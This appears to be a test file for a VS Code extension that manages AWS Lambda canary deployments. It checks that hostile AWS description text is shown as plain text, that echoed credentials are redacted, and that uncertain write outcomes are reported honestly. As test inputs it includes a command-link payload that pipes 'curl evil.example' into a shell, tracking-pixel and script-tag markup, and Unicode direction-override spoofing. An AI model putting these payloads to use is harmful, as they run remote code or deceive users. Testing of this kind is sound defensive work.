/**
 * Hostile input to what the extension displays and logs. Free text on AWS (descriptions, a
 * function's own error output) is set through the real SDK and read back the way the tree, the
 * pickers and the notifications read it; AWS errors that echo credentials, lost answers to
 * writes, and double clicks on the panel's actions are played against the sandbox. Each case
 * asserts a clear text — no markup, no credential, no contradiction — and that nothing changed.
 */
import assert from 'node:assert/strict';
import type { AliasConfiguration } from '@aws-sdk/client-lambda';
import {
  CreateAliasCommand,
  CreateFunctionCommand,
  GetAliasCommand,
  GetFunctionConfigurationCommand,
  ListAliasesCommand,
  ListVersionsByFunctionCommand,
  PublishVersionCommand,
  UpdateAliasCommand,
  UpdateFunctionCodeCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import { AliasActions } from '../../src/core/aliasActions';
import type { Clients } from '../../src/core/connection';
import { createClients } from '../../src/core/connection';
import { errorSummary, errorText, OperationError } from '../../src/core/errors';
import { listAliases, listAllFunctions, listVersions } from '../../src/core/lambdaApi';
import { MemoryLogger } from '../../src/core/log';
import type { OperationContext } from '../../src/core/operations';
import { promoteCanary, publishCanary, setCanaryWeight } from '../../src/core/operations';
import { sha256Base64 } from '../../src/core/packaging';
import { aliasLabel } from '../../src/core/routing';
import { fetchTraffic, probeAlias } from '../../src/core/traffic';
import { aliasDescription, aliasTooltip, functionTooltip, versionDescription, versionTooltip } from '../../src/extension/treeText';
import { zipFiles } from '../../src/sandbox';
import { AwsError } from '../../src/sandbox/errors';
import { iconText, notificationText, plainText } from '../../src/shared/text';
import { REDACTED } from '../../src/core/redact';
import { ACCESS_KEY_ID, invalidSignatureMessage, SECRET, SESSION_TOKEN, SHORT_TOKEN, SIGNATURE, stsAssumeRoleReply } from '../unit/credentialFixtures';
import { renderMarkdown, tagsOf, textOf } from '../unit/renderMarkdown';
import { clientsFor, ROLE, sleep, useSandbox } from './helpers';

const FAST = { maxWaitTime: 20, minDelay: 0.05, maxDelay: 0.2 };
/** VS Code's notification link syntax (see test/unit/text.test.ts). */
const NOTIFICATION_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+(?: (["']).+?\1)?\)/i;
const ICON = /(^|[^\\])\$\([a-z0-9-]+(?:~[a-z]+)?\)/i;
/** What an unknown outcome must never claim. */
const CLAIMS_NOTHING_CHANGED = /nothing was changed|nothing was written|is unchanged|are as they were/i;

function code(tag: string, body = `exports.handler = async () => (${JSON.stringify({ tag })});\n`): { zip: Buffer; codeSha256: string } {
  const zip = zipFiles({ 'index.js': body });
  return { zip, codeSha256: sha256Base64(zip) };
}

/** A tooltip rendered by a real CommonMark renderer: only our own bold and line breaks are markup. */
function assertTextOnly(markdown: string, mustShow: string): string {
  const html = renderMarkdown(markdown);
  const tags = new Set(tagsOf(html));
  for (const t of tags) assert.ok(['p', 'strong', 'br'].includes(t), `the tooltip renders <${t}>: ${html}`);
  const text = textOf(html);
  assert.ok(text.includes(plainText(mustShow)), `the tooltip shows the text as written (${JSON.stringify(plainText(mustShow))}): ${text}`);
  return text;
}

describe('hostile input: display and logs', function () {
  this.timeout(30_000);
  const h = useSandbox({ updateDelayMs: 30, randomSeed: 11 });
  let n = 0;
  let fn: string;
  let log: MemoryLogger;
  const ctx = (extra: Partial<OperationContext> = {}): OperationContext => ({ lambda: h().lambda, log, waiters: FAST, ...extra });
  const alias = (): Promise<AliasConfiguration> => h().lambda.send(new GetAliasCommand({ FunctionName: fn, Name: 'prod' }));

  /** Everything a case could change: $LATEST, the versions and the aliases, as AWS reports them. */
  async function snapshot(): Promise<string> {
    const { lambda } = h();
    const latest = await lambda.send(new GetFunctionConfigurationCommand({ FunctionName: fn }));
    const versions = (await lambda.send(new ListVersionsByFunctionCommand({ FunctionName: fn }))).Versions ?? [];
    const aliases = (await lambda.send(new ListAliasesCommand({ FunctionName: fn }))).Aliases ?? [];
    return JSON.stringify({
      latest: [latest.CodeSha256, latest.Description, latest.RevisionId],
      versions: versions.map((v) => [v.Version, v.CodeSha256, v.Description]),
      aliases: aliases.map((a) => [a.Name, a.FunctionVersion, a.RoutingConfig, a.Description, a.RevisionId]),
    });
  }

  /** A function with versions 1 and 2; prod → 1 with a 10 % canary on 2. */
  beforeEach(async () => {
    n++;
    fn = `hostile-display-${n}`;
    log = new MemoryLogger();
    const { lambda, sandbox } = h();
    await lambda.send(new CreateFunctionCommand({ FunctionName: fn, Runtime: 'nodejs20.x', Handler: 'index.handler', Role: ROLE, Code: { ZipFile: code('v1').zip }, Description: 'checkout service' }));
    sandbox.settle();
    await lambda.send(new PublishVersionCommand({ FunctionName: fn, Description: 'git 1111111' }));
    await lambda.send(new UpdateFunctionCodeCommand({ FunctionName: fn, ZipFile: code('v2').zip }));
    sandbox.settle();
    await lambda.send(new PublishVersionCommand({ FunctionName: fn, Description: 'git 2222222' }));
    sandbox.settle();
    await lambda.send(new CreateAliasCommand({ FunctionName: fn, Name: 'prod', FunctionVersion: '1', RoutingConfig: { AdditionalVersionWeights: { '2': 0.1 } } }));
  });
  afterEach(() => h().sandbox.faults.clear());

  describe('Markdown injection: AWS text is text', () => {
    async function aliasWithDescription(description: string): Promise<AliasConfiguration> {
      await h().lambda.send(new UpdateAliasCommand({ FunctionName: fn, Name: 'prod', Description: description }));
      return (await listAliases(h().lambda, fn)).find((a) => a.Name === 'prod')!;
    }

    it('a command link in an alias description is no link in its tooltip, picker or a notification', async () => {
      const evil = '[Fix the canary](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';
      const a = await aliasWithDescription(evil);
      const before = await snapshot();
      assertTextOnly(aliasTooltip(fn, a), evil);
      assert.equal(aliasDescription(a, false), evil, 'the tree description shows it as written');
      assert.doesNotMatch(notificationText(`${fn}:prod: ${a.Description}`), NOTIFICATION_LINK);
      assert.equal(await snapshot(), before, 'showing it changed nothing');
    });

    it('a remote image in a version description (a tracking pixel) is not loaded', async () => {
      const pixel = '![](https://tracker.example/p.gif?who=me) <img src="https://tracker.example/q.gif">';
      await h().lambda.send(new UpdateFunctionCodeCommand({ FunctionName: fn, ZipFile: code('v3').zip }));
      h().sandbox.settle();
      await h().lambda.send(new PublishVersionCommand({ FunctionName: fn, Description: pixel }));
      const before = await snapshot();
      const v3 = (await listVersions(h().lambda, fn)).find((v) => v.Version === '3')!;
      const html = renderMarkdown(versionTooltip(fn, v3));
      assert.doesNotMatch(html, /<img|<a /, html);
      assertTextOnly(versionTooltip(fn, v3), pixel);
      assert.match(versionDescription(v3, []), /^!\[\]\(https:\/\/tracker\.example\/p\.gif\?who=me\)/);
      assert.equal(await snapshot(), before);
    });

    it('fake status lines in a function description stay one line of text inside the description', async () => {
      const fake = 'ok\n\n**Version 9: 100%** ✅\nRevisionId: `trusted`\n# All healthy';
      await h().lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName: fn, Description: fake }));
      h().sandbox.settle();
      const before = await snapshot();
      const f = (await listAllFunctions(h().lambda)).find((x) => x.FunctionName === fn)!;
      const text = assertTextOnly(functionTooltip(f), fake);
      const lines = text.split('\n');
      assert.equal(lines.length, 5, `the tooltip's own five lines, no more: ${JSON.stringify(lines)}`);
      assert.equal(lines[1], `Description: ${plainText(fake)}`);
      assert.equal(tagsOf(renderMarkdown(functionTooltip(f))).filter((t) => t === 'strong').length, 1, 'only the name is bold');
      assert.equal(await snapshot(), before);
    });

    const markup: Array<[string, string]> = [
      ['raw HTML in an alias description is shown, not rendered', '<a href="https://evil.example">Promote now</a><script>alert(1)</script><b>x</b>'],
      ['bare URLs and e-mail addresses are not turned into links', 'login at https://evil.example/sso or www.evil.example, mail ops@evil.example, <https://evil.example/a>'],
      ['HTML entities and reference-style links do not assemble into a link', '&#91;ok&#93;&#40;command:lambdaCanary.promoteCanary&#41; [docs][1] [1]: https://evil.example'],
    ];
    for (const [title, text] of markup) {
      it(title, async () => {
        const a = await aliasWithDescription(text);
        const before = await snapshot();
        assertTextOnly(aliasTooltip(fn, a), text);
        assert.doesNotMatch(notificationText(a.Description), NOTIFICATION_LINK);
        assert.equal(await snapshot(), before);
      });
    }

    it('theme-icon syntax in a description shows as text in pickers and tooltips', async () => {
      const icons = '$(pass-filled) Approved by security $(sync~spin)';
      const a = await aliasWithDescription(icons);
      const before = await snapshot();
      assert.doesNotMatch(iconText(a.Description), ICON, 'the alias picker detail');
      assert.doesNotMatch(aliasTooltip(fn, a), ICON, 'the tooltip');
      assertTextOnly(aliasTooltip(fn, a), icons);
      assert.equal(await snapshot(), before);
    });

    it('bidirectional overrides and zero-width characters cannot disguise a description', async () => {
      const spoof = 'approved\u202E devorppa ton\u202C\u200B';
      await h().lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName: fn, Description: spoof }));
      h().sandbox.settle();
      const before = await snapshot();
      const f = (await listAllFunctions(h().lambda)).find((x) => x.FunctionName === fn)!;
      const html = renderMarkdown(functionTooltip(f));
      assert.doesNotMatch(html, /[\u202A-\u202E\u200B]/);
      assert.equal(await snapshot(), before);
    });

    it("a function's own error output in a failed smoke test cannot put a link in the notification", async () => {
      await h().lambda.send(new UpdateAliasCommand({ FunctionName: fn, Name: 'prod', FunctionVersion: '1', RoutingConfig: { AdditionalVersionWeights: {} } }));
      const evil = code('evil', "exports.handler = async () => { throw new Error('[Open the fix](command:workbench.action.openSettings) ![](https://tracker.example/x.gif)'); };\n");
      const before = await alias();
      await assert.rejects(
        publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...evil, smokeEvent: {} }),
        (e: unknown) => {
          assert.ok(e instanceof OperationError, String(e));
          assert.match(e.message, /smoke test of version 3 failed/);
          const shown = notificationText(errorText(e));
          assert.doesNotMatch(shown, NOTIFICATION_LINK, shown);
          assert.match(shown, /No traffic was routed to it/);
          return true;
        },
      );
      const after = await alias();
      assert.deepEqual([after.FunctionVersion, after.RoutingConfig, after.RevisionId], [before.FunctionVersion, before.RoutingConfig, before.RevisionId], 'prod is as it was');
    });
  });

  describe('credentials never reach the log or an error', () => {
    let saved: Record<string, string | undefined>;
    let clients: Clients;
    const VARS = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'AWS_PROFILE'];

    /** The product's own clients (createClients) on temporary credentials from the environment. */
    before(() => {
      saved = Object.fromEntries(VARS.map((k) => [k, process.env[k]]));
      process.env.AWS_ACCESS_KEY_ID = ACCESS_KEY_ID;
      process.env.AWS_SECRET_ACCESS_KEY = SECRET;
      process.env.AWS_SESSION_TOKEN = SESSION_TOKEN;
      delete process.env.AWS_PROFILE;
      clients = createClients({ kind: 'aws', region: h().sandbox.region, endpointUrl: h().sandbox.endpoint }, { maxAttempts: 1 });
    });
    after(() => {
      clients?.dispose();
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
    });

    /** Nothing of the token, the key id, the secret or the signature in any of these texts. */
    function assertNoSecrets(...texts: Array<string | undefined>): void {
      for (const t of texts) {
        if (!t) continue;
        for (const s of [SESSION_TOKEN.slice(0, 40), SESSION_TOKEN.slice(100, 140), ACCESS_KEY_ID, SECRET, SIGNATURE]) {
          assert.ok(!t.includes(s), `a credential (${s.slice(0, 12)}…) leaked into: ${t.slice(0, 300)}`);
        }
      }
    }

    it('an InvalidSignatureException echoing the session token: a clear credentials error; the token in no log line or message', async () => {
      // Lambda answers a wrong signature with the canonical request it computed, token header included.
      h().sandbox.faults.add({
        operation: 'UpdateAlias',
        kind: 'hook',
        hook: () => {
          throw new AwsError('InvalidSignatureException', 403, invalidSignatureMessage());
        },
      });
      const before = await snapshot();
      await assert.rejects(setCanaryWeight({ lambda: clients.lambda, log, waiters: FAST }, { functionName: fn, aliasName: 'prod' }, 20), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.equal(e.kind, 'credentials');
        assert.match(e.message, /AWS rejected the credentials \(InvalidSignatureException\)\. Check the access key, or log in again\./);
        assert.equal(e.state, 'prod is unchanged.');
        assertNoSecrets(e.message, e.state, errorText(e));
        return true;
      });
      assert.ok(log.lines.some((l) => /InvalidSignatureException/.test(l) && /x-amz-security-token:\[redacted\]/.test(l)), 'the log keeps the diagnosis, without the token');
      assertNoSecrets(...log.lines);
      assert.equal(await snapshot(), before);
    });

    it('an AccessDeniedException quoting the Authorization header and the key id: denied action kept, credentials gone', async () => {
      const header = `Authorization: AWS4-HMAC-SHA256 Credential=${ACCESS_KEY_ID}/20261201/us-east-1/lambda/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=${SIGNATURE}`;
      h().sandbox.faults.add({
        operation: 'GetAlias',
        kind: 'hook',
        hook: () => {
          throw new AwsError('AccessDeniedException', 403, `User: arn:aws:sts::123456789012:assumed-role/dev/${ACCESS_KEY_ID} is not authorized to perform: lambda:GetAlias (${header})`);
        },
      });
      const before = await snapshot();
      await assert.rejects(promoteCanary({ lambda: clients.lambda, log, waiters: FAST }, { functionName: fn, aliasName: 'prod' }), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.match(e.message, /Access denied: .*lambda:GetAlias/);
        assert.match(e.message, /IAM permissions/);
        assertNoSecrets(e.message, e.state);
        return true;
      });
      assertNoSecrets(...log.lines);
      assert.equal(await snapshot(), before);
    });

    it('an error quoting the credentials as a shell, a JSON body and an STS XML answer would: none of them in the error or the log', async () => {
      const echoed =
        `Bad credential source: AWS_SECRET_ACCESS_KEY="${SECRET}" AWS_SESSION_TOKEN='${SHORT_TOKEN}' ` +
        `${JSON.stringify({ aws_secret_access_key: SECRET, X_Amz_Security_Token: SHORT_TOKEN })} ${stsAssumeRoleReply()}`;
      h().sandbox.faults.add({
        operation: 'GetAlias',
        kind: 'hook',
        hook: () => {
          throw new AwsError('AccessDeniedException', 403, echoed);
        },
      });
      const before = await snapshot();
      await assert.rejects(setCanaryWeight({ lambda: clients.lambda, log, waiters: FAST }, { functionName: fn, aliasName: 'prod' }, 20), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.match(e.message, /^GetAlias prod failed: Access denied: Bad credential source: AWS_SECRET_ACCESS_KEY="\[redacted\]"/);
        assertNoSecrets(e.message, e.state, errorText(e));
        assert.ok(!errorText(e).includes(SHORT_TOKEN), errorText(e));
        return true;
      });
      assertNoSecrets(...log.lines);
      assert.ok(!log.lines.some((l) => l.includes(SHORT_TOKEN)), 'the short token is in no log line');
      assert.equal(await snapshot(), before);
    });

    it('an error whose words only look like credentials keeps them: signature, credential, a function named ASIA…', async () => {
      const name = 'ASIAPACIFICBILLING01';
      const message = `Invalid signature: expected the role of ${name} to trust lambda.amazonaws.com; credential: profile dev (RequestId: 0f3c9a3e-5b1d-4b8e-9d44-1e2f3a4b5c6d).`;
      h().sandbox.faults.add({
        operation: 'GetAlias',
        kind: 'hook',
        hook: () => {
          throw new AwsError('InvalidParameterValueException', 400, message);
        },
      });
      const before = await snapshot();
      await assert.rejects(promoteCanary({ lambda: clients.lambda, log, waiters: FAST }, { functionName: fn, aliasName: 'prod' }), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.equal(e.message, `GetAlias prod failed: InvalidParameterValueException: ${message}`);
        assert.ok(!e.message.includes(REDACTED), e.message);
        return true;
      });
      assert.ok(log.lines.some((l) => l.includes(message)), `the log keeps the message as AWS wrote it: ${log.lines.join('\n')}`);
      assert.equal(await snapshot(), before);
    });

    it("a probe refused with the token echoed: the panel's first error holds no token, and nothing was invoked", async () => {
      h().sandbox.faults.add({
        operation: 'Invoke',
        kind: 'hook',
        times: 5,
        hook: () => {
          throw new AwsError('InvalidSignatureException', 403, invalidSignatureMessage());
        },
      });
      const before = await snapshot();
      const r = await probeAlias(clients.lambda, { functionName: fn, aliasName: 'prod', count: 5, ratePerSecond: 1000 });
      assert.equal(r.failed, 5);
      assert.deepEqual(r.byVersion, {}, 'no invocation ran');
      assert.match(r.firstError ?? '', /^InvalidSignatureException: The request signature we calculated does not match/);
      assertNoSecrets(r.firstError);
      assert.equal(await snapshot(), before);
    });

    it('a CloudWatch error echoing a presigned URL: the traffic error the panel shows holds no credentials', async () => {
      const url = `https://example.s3.amazonaws.com/x?X-Amz-Security-Token=${encodeURIComponent(SESSION_TOKEN)}&X-Amz-Credential=${ACCESS_KEY_ID}%2F20261201&X-Amz-Signature=${SIGNATURE}`;
      h().sandbox.faults.add({
        operation: 'GetMetricData',
        kind: 'hook',
        hook: () => {
          throw new AwsError('InvalidSignatureException', 403, `Signature expired for ${url}`);
        },
      });
      const err = await fetchTraffic(clients.cloudwatch, { functionName: fn, aliasName: 'prod', versions: ['1', '2'], windowMs: 300_000, periodSeconds: 60 }).then(
        () => assert.fail('the fault did not fire'),
        (e: unknown) => e,
      );
      const shown = errorSummary(err);
      assert.match(shown, /^InvalidSignatureException: Signature expired for https:\/\/example\.s3\.amazonaws\.com\/x\?/);
      assertNoSecrets(shown);
      assert.ok(!shown.includes(encodeURIComponent(SESSION_TOKEN).slice(0, 40)));
    });
  });

  describe('an unknown outcome is called unknown, and only that', () => {
    function assertUnknown(e: unknown, step: string): OperationError {
      assert.ok(e instanceof OperationError, String(e));
      assert.equal(e.kind, 'unknown', `${e.kind}: ${e.message} — ${e.state}`);
      assert.equal(e.step, step);
      const shown = errorText(e);
      assert.match(shown, /outcome is unknown/);
      assert.doesNotMatch(shown, CLAIMS_NOTHING_CHANGED, shown);
      assert.doesNotMatch(shown, /\bRetry\b|retry;/, `no blind retry advice: ${shown}`);
      assert.match(e.state ?? '', /^Unknown: /);
      return e;
    }

    it('UpdateAlias applied but its reply lost, and the read-back failing: unknown, with how to tell — the alias did change', async () => {
      const before = await alias();
      h().sandbox.faults.add({ operation: 'UpdateAlias', kind: 'truncate' });
      h().sandbox.faults.add({ operation: 'GetAlias', nth: 2, kind: 'drop' });
      const e = await setCanaryWeight(ctx(), { functionName: fn, aliasName: 'prod', expectedRevisionId: before.RevisionId }, 30).then(
        () => assert.fail('the write reported success without an answer'),
        (err: unknown) => assertUnknown(err, 'UpdateAlias prod'),
      );
      const now = await alias();
      assert.deepEqual(now.RoutingConfig?.AdditionalVersionWeights, { '2': 0.3 }, 'the write did land');
      // The text names what the user will see when it went through: exactly what is there.
      assert.ok(e.state!.includes(`if it shows ${aliasLabel(now)}, the change went through`), e.state);
      assert.ok(e.state!.includes(`if it still shows ${aliasLabel(before)}`), e.state);
      assert.ok(!log.lines.some((l) => CLAIMS_NOTHING_CHANGED.test(l)), `the log claims nothing changed: ${log.lines.join('\n')}`);
    });

    it('UpdateAlias lost before it landed, and the read-back failing: unknown too — the alias did not change', async () => {
      const before = await alias();
      const snap = await snapshot();
      h().sandbox.faults.add({ operation: 'UpdateAlias', kind: 'drop' });
      h().sandbox.faults.add({ operation: 'GetAlias', nth: 2, kind: 'drop' });
      const e = await promoteCanary(ctx(), { functionName: fn, aliasName: 'prod', expectedRevisionId: before.RevisionId }).then(
        () => assert.fail('the write reported success without an answer'),
        (err: unknown) => assertUnknown(err, 'UpdateAlias prod'),
      );
      assert.equal(await snapshot(), snap, 'nothing changed');
      assert.ok(e.state!.includes(`if it still shows ${aliasLabel(before)}, the request did not take effect`), e.state);
    });

    it("UpdateAlias lost, and the read-back shows another client's change: a conflict that says what is there, not 'unchanged'", async () => {
      const before = await alias();
      h().sandbox.faults.add({ operation: 'UpdateAlias', kind: 'drop' });
      h().sandbox.faults.add({
        operation: 'GetAlias',
        nth: 2,
        kind: 'hook',
        // Another developer moves the canary between the lost write and its read-back.
        hook: async () => void (await h().lambda.send(new UpdateAliasCommand({ FunctionName: fn, Name: 'prod', RoutingConfig: { AdditionalVersionWeights: { '2': 0.2 } } }))),
      });
      await assert.rejects(setCanaryWeight(ctx(), { functionName: fn, aliasName: 'prod', expectedRevisionId: before.RevisionId }, 50), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.equal(e.kind, 'conflict');
        assert.match(e.message, /`prod` changed since you loaded it — refresh and retry/);
        assert.equal(e.state, "prod now routes prod → 1 (80%) · 2 (20%), set by another client; this request's routing is not in place.");
        assert.doesNotMatch(errorText(e), CLAIMS_NOTHING_CHANGED);
        return true;
      });
      assert.deepEqual((await alias()).RoutingConfig?.AdditionalVersionWeights, { '2': 0.2 }, "the other client's change stands");
    });

    /** Publish needs an alias without a canary: prod → 1. */
    const noCanary = () => h().lambda.send(new UpdateAliasCommand({ FunctionName: fn, Name: 'prod', FunctionVersion: '1', RoutingConfig: { AdditionalVersionWeights: {} } }));

    it('PublishVersion applied but its reply lost, and the versions unreadable: unknown; no traffic moved', async () => {
      await noCanary();
      const before = await alias();
      h().sandbox.faults.add({ operation: 'PublishVersion', kind: 'truncate' });
      h().sandbox.faults.add({ operation: 'ListVersionsByFunction', kind: 'drop' });
      const e = await publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code('unknown-publish') }).then(
        () => assert.fail('reported success'),
        (err: unknown) => assertUnknown(err, 'PublishVersion'),
      );
      assert.match(e.state!, /Run Publish Canary again/);
      const after = await alias();
      assert.deepEqual([after.FunctionVersion, after.RoutingConfig, after.RevisionId], [before.FunctionVersion, before.RoutingConfig, before.RevisionId]);
    });

    it('UpdateFunctionCode applied but its reply lost, and $LATEST unreadable: unknown; no version published', async () => {
      await noCanary();
      const before = await alias();
      h().sandbox.faults.add({ operation: 'UpdateFunctionCode', kind: 'truncate' });
      h().sandbox.faults.add({ operation: 'GetFunctionConfiguration', nth: 2, kind: 'drop' });
      await publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code('unknown-upload') }).then(
        () => assert.fail('reported success'),
        (err: unknown) => assertUnknown(err, 'UpdateFunctionCode'),
      );
      const versions = ((await h().lambda.send(new ListVersionsByFunctionCommand({ FunctionName: fn }))).Versions ?? []).map((v) => v.Version);
      assert.deepEqual(versions, ['$LATEST', '1', '2'], 'no version published');
      const after = await alias();
      assert.equal(after.RevisionId, before.RevisionId);
    });
  });

  describe("another client's upload during a write with no clear answer: what $LATEST holds, not 'as they were'", () => {
    /** Publish needs an alias without a canary: prod → 1. */
    const noCanary = () => h().lambda.send(new UpdateAliasCommand({ FunctionName: fn, Name: 'prod', FunctionVersion: '1', RoutingConfig: { AdditionalVersionWeights: {} } }));
    const latest = () => h().lambda.send(new GetFunctionConfigurationCommand({ FunctionName: fn }));
    const versionList = async () => ((await h().lambda.send(new ListVersionsByFunctionCommand({ FunctionName: fn }))).Versions ?? []).map((v) => v.Version);
    /** Another developer uploads their own code, with their own client. */
    const otherUpload = async (tag: string) => {
      h().sandbox.faults.clear();
      await h().lambda.send(new UpdateFunctionCodeCommand({ FunctionName: fn, ZipFile: code(tag).zip }));
    };

    function assertSaysWhatLatestHolds(e: unknown, step: string, other: string): OperationError {
      assert.ok(e instanceof OperationError, String(e));
      assert.equal(e.step, step);
      assert.equal(e.kind, 'conflict', `${e.kind}: ${errorText(e)}`);
      assert.match(e.message, /code was changed by another client while this deploy was writing it — refresh and retry/);
      assert.ok(e.state?.includes(`$LATEST now holds other code (CodeSha256 ${other}`), errorText(e));
      assert.match(e.state ?? '', /set by another client; this deploy's code is not in place/);
      assert.doesNotMatch(errorText(e), CLAIMS_NOTHING_CHANGED, errorText(e));
      assert.doesNotMatch(errorText(e), /\$LATEST holds the new code/, errorText(e));
      return e;
    }

    it('UpdateFunctionCode lost, and the read-back shows a third CodeSha256: a conflict naming it', async () => {
      await noCanary();
      const before = await alias();
      const other = code('other-client-1');
      h().sandbox.faults.add({ operation: 'UpdateFunctionCode', kind: 'drop' });
      // GetFunctionConfiguration 1 reads $LATEST before the upload, 2 reads it back after.
      h().sandbox.faults.add({ operation: 'GetFunctionConfiguration', nth: 2, kind: 'hook', hook: () => otherUpload('other-client-1') });
      const e = await publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code('mine-1') }).then(
        () => assert.fail('reported success'),
        (err: unknown) => assertSaysWhatLatestHolds(err, 'UpdateFunctionCode', other.codeSha256),
      );
      assert.match(e.state!, /no version was published and prod routes as before\.$/);
      assert.equal((await latest()).CodeSha256, other.codeSha256, "the other client's code stands");
      assert.deepEqual(await versionList(), ['$LATEST', '1', '2'], 'no version published');
      assert.equal((await alias()).RevisionId, before.RevisionId, 'alias untouched');
      assert.ok(!log.lines.some((l) => CLAIMS_NOTHING_CHANGED.test(l)), `the log claims nothing changed: ${log.lines.join('\n')}`);
    });

    /**
     * `operation` answers a 500 after another client's upload landed; the SDK retries it and the
     * retry is refused. The deploy must fail naming the other client's CodeSha256, and leave the
     * other client's code, the versions and the alias as they are.
     */
    async function overtakenThenRefused(operation: 'UpdateFunctionCode' | 'PublishVersion', tag: string): Promise<OperationError> {
      await noCanary();
      const before = await alias();
      const other = code(`other-${tag}`);
      const retrying = clientsFor(h().sandbox, { maxAttempts: 3 });
      h().sandbox.faults.add({
        operation,
        kind: 'hook',
        hook: async () => {
          await otherUpload(`other-${tag}`);
          throw new AwsError('ServiceException', 500, 'An internal error occurred.');
        },
      });
      let e: OperationError;
      try {
        e = await publishCanary(ctx({ lambda: retrying.lambda }), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code(tag) }).then(
          () => assert.fail('reported success'),
          (err: unknown) => assertSaysWhatLatestHolds(err, operation, other.codeSha256),
        );
      } finally {
        retrying.lambda.destroy();
        retrying.cloudwatch.destroy();
      }
      assert.equal((await latest()).CodeSha256, other.codeSha256, "the other client's code stands");
      assert.deepEqual(await versionList(), ['$LATEST', '1', '2'], 'no version published');
      assert.equal((await alias()).RevisionId, before.RevisionId, 'alias untouched');
      return e;
    }

    it('UpdateFunctionCode answered with a 500 after another upload, and its retry refused: the refusal names the third CodeSha256', async () => {
      await overtakenThenRefused('UpdateFunctionCode', 'client-2');
    });

    it('PublishVersion answered with a 500 after another upload, and its retry refused: not "$LATEST holds the new code"', async () => {
      const e = await overtakenThenRefused('PublishVersion', 'client-3');
      assert.match(e.state!, /no version holds this code and prod routes as before\.$/);
    });

    it('UpdateFunctionCode landed unanswered, then another upload while it settles: the conflict names what $LATEST holds', async () => {
      await noCanary();
      const before = await alias();
      const other = code('other-client-5');
      h().sandbox.faults.add({ operation: 'UpdateFunctionCode', kind: 'truncate' });
      // The waiter's first poll: this deploy's upload has landed and been read back by then.
      h().sandbox.faults.add({
        operation: 'GetFunction',
        kind: 'hook',
        hook: async () => {
          h().sandbox.settle();
          await otherUpload('other-client-5');
        },
      });
      await assert.rejects(publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code('mine-5') }), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.equal(e.kind, 'conflict');
        assert.match(e.message, /code was changed by someone else during this deploy — refresh and retry/);
        assert.equal(e.state, `$LATEST now holds other code (CodeSha256 ${other.codeSha256}), set by another client; no version was published and prod is unchanged.`);
        return true;
      });
      assert.ok(log.lines.some((l) => /reads back with the new code: the upload went through/.test(l)), log.lines.join('\n'));
      assert.equal((await latest()).CodeSha256, other.codeSha256);
      assert.deepEqual(await versionList(), ['$LATEST', '1', '2']);
      assert.equal((await alias()).RevisionId, before.RevisionId);
    });

    it('UpdateFunctionCode lost, and the read-back shows the code from before: then, and only then, "as they were"', async () => {
      await noCanary();
      const snap = await snapshot();
      h().sandbox.faults.add({ operation: 'UpdateFunctionCode', kind: 'drop' });
      await assert.rejects(publishCanary(ctx(), { functionName: fn, aliasName: 'prod', weightPercent: 10, ...code('mine-4') }), (e: unknown) => {
        assert.ok(e instanceof OperationError, String(e));
        assert.equal(e.step, 'UpdateFunctionCode');
        assert.equal(e.state, 'Nothing was changed: $LATEST and prod are as they were.');
        return true;
      });
      assert.equal(await snapshot(), snap, 'read back as it was: it is');
    });
  });

  describe('double clicks', () => {
    it('a second Probe while one runs is refused; Cancel stops the first before its 1,500 invocations', async () => {
      let invoked = 0;
      h().sandbox.faults.add({ operation: 'Invoke', kind: 'hook', times: 1e9, hook: () => void invoked++ });
      const before = await snapshot();
      const actions = new AliasActions();
      const panel = {};
      const first = actions.begin(`${fn}:prod`, 'probe', panel);
      const second = actions.begin(`${fn}:prod`, 'probe', panel);
      assert.ok(first.ok);
      assert.deepEqual(second, { ok: false, running: 'probe' }, 'the double click is refused before anything runs');
      let stopped = false;
      const probe = probeAlias(h().lambda, { functionName: fn, aliasName: 'prod', count: 1500, ratePerSecond: 500, concurrency: 8 }, first.claim.signal, (done) => {
        if (done >= 20 && !stopped) {
          stopped = true;
          actions.cancelAll(panel);
        }
      }).finally(() => first.claim.end());
      const result = await probe;
      const sentAtCancel = result.sent;
      // Requests already on the wire at Cancel may still arrive; nothing is sent after it.
      await sleep(150);
      const settled = invoked;
      await sleep(400);
      assert.equal(invoked, settled, 'no invocation after the probe stopped');
      assert.ok(invoked <= sentAtCancel, `${invoked} invocations arrived, ${sentAtCancel} were sent`);
      assert.ok(sentAtCancel < 60, `the probe stopped at Cancel, not after ${sentAtCancel} invocations`);
      assert.equal(actions.current(`${fn}:prod`), undefined, 'the alias is free again');
      assert.equal(await snapshot(), before);
    });
  });
});
